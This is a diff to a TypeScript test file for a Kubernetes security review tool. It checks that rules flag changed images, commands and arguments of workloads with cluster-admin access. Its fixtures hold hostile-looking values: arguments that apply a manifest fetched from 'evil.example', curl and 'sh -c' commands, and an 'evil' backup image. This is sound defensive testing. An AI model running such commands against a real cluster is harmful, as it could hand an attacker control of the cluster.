@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import type { KubernetesObject } from '../../../../src/base/kubernetes/object.js';
-import { powerfulImage } from '../../../../src/review/rules/changed/powerful-workloads.js';
+import type { Access } from '../../../../src/review/rules/access/access.js';
+import { powerfulImage, powerfulInput } from '../../../../src/review/rules/changed/powerful-workloads.js';
 import { csv, group, namespace } from '../../../support/build.js';
 import { bind } from '../../../support/rbac-in-short.js';
 import { accessTo } from '../../../support/states.js';
@@ -45,8 +46,32 @@ describe('powerful-image', () => {
     ]);
   });
 
-  it('tells of any arguments of a workload of the input', () => {
-    expect(told(job({ ...OURS, args: ['apply', '-f', 'https://evil.example/x.yaml'] }))?.[0]).toContain('https://evil.example/x.yaml');
+  it('leaves arguments of the same program to the rule of its input, whatever they say', () => {
+    const args = ['apply', '-f', 'https://evil.example/x.yaml'];
+    const access = (object: KubernetesObject) => accessTo(namespace('op'), bind('ci', 'cluster-admin', 'ServiceAccount op/ci'), object);
+    const input = (was: object, is: object) =>
+      powerfulInput.compare?.(access(job(was)), access(job(is))).map(({ severity, message, after }) => [severity, message, after]);
+    const named = { name: 'a', ...OURS };
+    expect(told(job({ ...OURS, args }))).toEqual([]);
+    expect(input(named, { ...named, args })).toEqual([['error', expect.stringMatching(/: args of a$/), JSON.stringify(args)]]);
+    // The arguments of another program, or of a shell, are told with that program.
+    for (const other of [{ command: ['curl'] }, { image: 'quay.io/evil/backup:v1' }, { command: ['sh', '-c'] }]) {
+      expect(told(job({ ...OURS, ...other, args }))?.[0]).toContain('https://evil.example/x.yaml');
+      expect(input(named, { ...named, ...other, args })).toEqual([]);
+    }
+  });
+
+  it('may grant more only with another image', () => {
+    const effects = (container: object) =>
+      powerfulImage
+        .compare?.(
+          ...([OURS, container].map((each) =>
+            accessTo(namespace('op'), bind('ci', 'cluster-admin', 'ServiceAccount op/ci'), job(each)),
+          ) as [Access, Access]),
+        )
+        .map(({ effect }) => effect);
+    expect(effects({ ...OURS, command: ['sh', '-c', 'evil'] })).toEqual(['none']);
+    expect(effects({ image: 'quay.io/evil/backup:v1' })).toEqual([undefined]);
   });
 
   it('tells of the arguments of a shell, of a hook and of a probe', () => {
